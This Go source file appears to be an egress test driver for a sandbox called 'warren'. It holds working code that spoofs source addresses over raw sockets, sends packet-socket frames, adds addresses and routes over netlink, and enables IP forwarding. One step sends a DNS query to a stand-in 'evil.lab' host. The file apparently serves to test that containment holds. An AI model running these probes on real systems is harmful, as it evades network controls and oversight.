package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"syscall"
	"time"

	"github.com/miekg/dns"

	"github.com/warren-sandbox/warren/driver/drivertest/egress"
)

// netlink asks the kernel to change something about the network.
func netlink(kind uint16, flags uint16, body []byte) error {
	fd, err := syscall.Socket(syscall.AF_NETLINK, syscall.SOCK_RAW, syscall.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	m := make([]byte, syscall.NLMSG_HDRLEN, syscall.NLMSG_HDRLEN+len(body))
	binary.NativeEndian.PutUint32(m, uint32(syscall.NLMSG_HDRLEN+len(body)))
	binary.NativeEndian.PutUint16(m[4:], kind)
	binary.NativeEndian.PutUint16(m[6:], flags|syscall.NLM_F_REQUEST|syscall.NLM_F_ACK)
	if err := syscall.Sendto(fd, append(m, body...), 0, &syscall.SockaddrNetlink{Family: syscall.AF_NETLINK}); err != nil {
		return err
	}
	tv := syscall.NsecToTimeval(int64(time.Second))
	syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv)
	buf := make([]byte, 8192)
	n, _, err := syscall.Recvfrom(fd, buf, 0)
	if err != nil {
		return err
	}
	if n >= syscall.NLMSG_HDRLEN+4 && binary.NativeEndian.Uint16(buf[4:]) == syscall.NLMSG_ERROR {
		if code := int32(binary.NativeEndian.Uint32(buf[syscall.NLMSG_HDRLEN:])); code != 0 {
			return syscall.Errno(-code)
		}
	}
	return nil
}

func attr(kind uint16, b []byte) []byte {
	a := binary.NativeEndian.AppendUint16(nil, uint16(4+len(b)))
	a = append(binary.NativeEndian.AppendUint16(a, kind), b...)
	for len(a)%4 != 0 {
		a = append(a, 0)
	}
	return a
}

// addAddress gives the card another address.
func addAddress(a netip.Addr) error {
	i, err := net.InterfaceByName(card())
	if err != nil {
		return err
	}
	body := append([]byte{syscall.AF_INET, 32, 0, 0}, binary.NativeEndian.AppendUint32(nil, uint32(i.Index))...)
	body = append(body, attr(syscall.IFA_LOCAL, a.AsSlice())...)
	return netlink(syscall.RTM_NEWADDR, syscall.NLM_F_CREATE, append(body, attr(syscall.IFA_ADDRESS, a.AsSlice())...))
}

// addRoute sends what is for a block through the card.
func addRoute(p netip.Prefix) error {
	i, err := net.InterfaceByName(card())
	if err != nil {
		return err
	}
	body := []byte{syscall.AF_INET, byte(p.Bits()), 0, 0, syscall.RT_TABLE_MAIN, syscall.RTPROT_BOOT, syscall.RT_SCOPE_LINK, syscall.RTN_UNICAST, 0, 0, 0, 0}
	body = append(body, attr(syscall.RTA_DST, p.Addr().AsSlice())...)
	return netlink(syscall.RTM_NEWROUTE, syscall.NLM_F_CREATE, append(body, attr(syscall.RTA_OIF, binary.NativeEndian.AppendUint32(nil, uint32(i.Index)))...))
}

// spoofed sends a datagram that says it is from another address.
func spoofed(from, to string) error {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	f, t := netip.MustParseAddr(from).As4(), netip.MustParseAddr(to).As4()
	b := append([]byte{0x45, 0, 0, 32, 0, 1, 0, 0, 64, syscall.IPPROTO_UDP, 0, 0}, append(f[:], t[:]...)...)
	b = append(b, 0, 99, 0, 99, 0, 12, 0, 0, 'x', 'x', 'x', 'x')
	return syscall.Sendto(fd, b, 0, &syscall.SockaddrInet4{Addr: t})
}

func spoofing() []try {
	from := func(local string) func(to string) string {
		return func(to string) string {
			a := netip.MustParseAddr(local)
			err := addAddress(a)
			c, derr := (&net.Dialer{Timeout: wait, LocalAddr: &net.TCPAddr{IP: a.AsSlice()}}).Dial("tcp", to)
			return fmt.Sprint(err, ", ", say(c, derr, "x"))
		}
	}
	return []try{
		{"an address of another block", []string{egress.Packet("tcp", "11.6.34.1", 443)}, func() string { return from("10.99.0.7")("11.6.34.1:443") }},
		{"the address of a neighbour", []string{egress.Packet("tcp", "11.6.34.2", 443)}, func() string { return from("198.18.0.3")("11.6.34.2:443") }},
		{"a datagram from the gateway's address", []string{egress.Packet("udp", "11.6.34.3", 99)}, func() string { return fmt.Sprint(spoofed(egress.Resolver, "11.6.34.3")) }},
		{"a datagram from another block", []string{egress.Packet("udp", "11.6.34.4", 99)}, func() string { return fmt.Sprint(spoofed("10.99.0.8", "11.6.34.4")) }},
		{"a frame past the stack", []string{egress.Packet("udp", "11.6.34.5", 99)}, func() string { return fmt.Sprint(frame("11.6.34.5")) }},
	}
}

// frame sends a datagram over a packet socket.
func frame(to string) error {
	proto := int(binary.BigEndian.Uint16(binary.NativeEndian.AppendUint16(nil, syscall.ETH_P_IP)))
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_DGRAM, proto)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	i, err := net.InterfaceByName(card())
	if err != nil {
		return err
	}
	f, t := netip.MustParseAddr(egress.Host4).As4(), netip.MustParseAddr(to).As4()
	b := append([]byte{0x45, 0, 0, 32, 0, 1, 0, 0, 64, syscall.IPPROTO_UDP, 0, 0}, append(f[:], t[:]...)...)
	b = append(b, 0, 99, 0, 99, 0, 12, 0, 0, 'x', 'x', 'x', 'x')
	return syscall.Sendto(fd, b, 0, &syscall.SockaddrLinklayer{Protocol: uint16(proto), Ifindex: i.Index, Halen: 6})
}

func routes() []try {
	return []try{
		{"a route of its own", []string{egress.Packet("tcp", "11.6.35.1", 443)}, func() string {
			err := addRoute(netip.MustParsePrefix("11.6.35.0/24"))
			c, derr := dialAddr("11.6.35.1", 443)
			return fmt.Sprint(err, ", ", say(c, derr, "x"))
		}},
		{"forwarding", []string{egress.Packet("tcp", "11.6.35.2", 443)}, func() string {
			err := os.WriteFile("/proc/sys/net/ipv4/ip_forward", []byte("1"), 0)
			c, derr := dialAddr("11.6.35.2", 443)
			return fmt.Sprint(err, ", ", say(c, derr, "x"))
		}},
	}
}

// first sends before anything else is done. What is allowed has to work from the first command on, and is what it prints.
func first() {
	for network, addr := range map[string]string{"udp": "11.6.30.1", "udp6": "2a00:6::30"} {
		domain := map[string]int{"udp": syscall.AF_INET, "udp6": syscall.AF_INET6}[network]
		if fd, err := syscall.Socket(domain, syscall.SOCK_DGRAM, 0); err == nil {
			syscall.Sendto(fd, []byte("first"), 0, sockaddr(addr, 9999))
			syscall.Close(fd)
		}
	}
	if c, err := dialAddr("11.6.30.1", 443); err == nil {
		c.Close()
	}
	query("udp", egress.Resolver, egress.Marker("b30.evil.lab."), dns.TypeTXT)
	fmt.Println(get("https", egress.Allowed))
}
